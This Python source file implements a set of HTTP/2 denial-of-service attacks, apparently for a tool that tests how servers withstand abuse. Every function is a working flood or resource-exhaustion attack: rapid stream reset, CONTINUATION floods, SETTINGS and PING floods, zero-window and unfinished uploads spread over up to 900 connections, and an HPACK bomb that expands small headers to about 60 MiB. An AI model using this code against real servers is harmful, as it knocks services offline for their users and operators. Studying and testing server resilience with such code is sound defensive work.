"""Clients that abuse HTTP/2."""

import asyncio
import itertools

import http1
import http2
from attack import attack
from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, Http2, frame

# The numbers that a client may give its streams.
STREAMS = range(1, 2**31, 2)
LARGE = 1024 * 1024


@attack(clients=20)
async def rapid_reset(target):
    """Begins requests and takes each back at once."""
    block = http2.block("GET")
    async with await target.connect() as peer:
        http = await Http2.begin(peer)
        async with asyncio.TaskGroup() as group:
            group.create_task(http.pump(target))
            for first in STREAMS[::100]:
                await peer.send(b"".join(
                    frame(HEADERS, stream, block, END_HEADERS | END_STREAM)
                    + frame(http2.RST_STREAM, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 200, 2)
                ))
                target.tally["requests taken back"] += 100


@attack(clients=20)
async def continuation_flood(target):
    """Sends a head that goes on and on."""
    more = 50 * frame(http2.CONTINUATION, 1, http2.field("x" * 100, "y" * 200) * 50)
    await _flood(target, frame(HEADERS, 1, http2.block("GET")), more)


@attack(clients=20)
async def empty_continuations(target):
    """Sends a head that goes on and on without a byte in it."""
    await _flood(target, frame(HEADERS, 1, http2.block("GET")), 5000 * frame(http2.CONTINUATION, 1))


@attack(clients=20)
async def settings_flood(target):
    """Changes its settings all the time and reads no acknowledgement."""
    await _flood(target, b"", 1000 * http2.settings(window=65535, table_size=4096))


@attack(clients=20)
async def ping_flood(target):
    """Pings all the time and reads no answer."""
    await _flood(target, b"", 1000 * frame(http2.PING, payload=b"standin!"))


@attack(clients=20)
async def empty_data(target):
    """Sends a body of frames that are empty."""
    await _flood(target, frame(HEADERS, 1, http2.block(), END_HEADERS), 5000 * frame(DATA, 1))


@attack(clients=8, uploads=True)
async def window_zero(target):
    """Sends 1 MiB with each request and gives no window for the replies."""
    async with await target.connect() as peer:
        http = await Http2.begin(peer, window=0)
        async with asyncio.TaskGroup() as group:
            group.create_task(http.pump(target))
            for stream in itertools.islice(STREAMS, 128):
                await peer.send(frame(HEADERS, stream, http2.block(), END_HEADERS))
                await http.upload(stream, http1.valid(LARGE))
                target.tally["requests sent whole"] += 1


@attack(clients=900, uploads=True)
async def unfinished_uploads(target):
    """Sends all but the last byte of 1 MiB, each on a connection of its own with a window of its own."""
    async with await target.connect() as peer:
        http = await Http2.begin(peer)
        async with asyncio.TaskGroup() as group:
            group.create_task(http.pump(target))
            await peer.send(frame(HEADERS, 1, http2.block(), END_HEADERS))
            await http.upload(1, http1.valid(LARGE - 1), end=0)
            target.tally["uploads that lack one byte"] += 1


@attack(clients=2)
async def empty_uploads(target):
    """Announces 1 MiB on each of 128 streams and sends none of it."""
    async with await target.connect() as peer:
        http = await Http2.begin(peer)
        block = http2.block(content_length=str(LARGE))
        await peer.send(b"".join(frame(HEADERS, s, block, END_HEADERS) for s in itertools.islice(STREAMS, 128)))
        await http.pump(target)


@attack(clients=20, worst=1)
async def hpack_bomb(target):
    """Sends heads of 16 KiB that unpack to 60 MiB."""
    bomb = http2.field("x", 4000 * "y", first=0x40, bits=6)
    async with await target.connect() as peer:
        http = await Http2.begin(peer)
        async with asyncio.TaskGroup() as group:
            group.create_task(http.pump(target))
            for stream in STREAMS:
                # 0xbe is the newest entry of the table.
                block = http2.block("GET") + (bomb if stream == 1 else b"") + 15_000 * b"\xbe"
                await peer.send(frame(HEADERS, stream, block[:http2.FRAME], END_HEADERS | END_STREAM))
                target.tally["bombs"] += 1


async def _flood(target, first, more):
    """Sends the same again and again until the server ends it."""
    async with await target.connect(buffer=1024) as peer:
        await Http2.begin(peer)
        await peer.send(first)
        while True:
            await peer.send(more)
            target.tally["bytes sent"] += len(more)
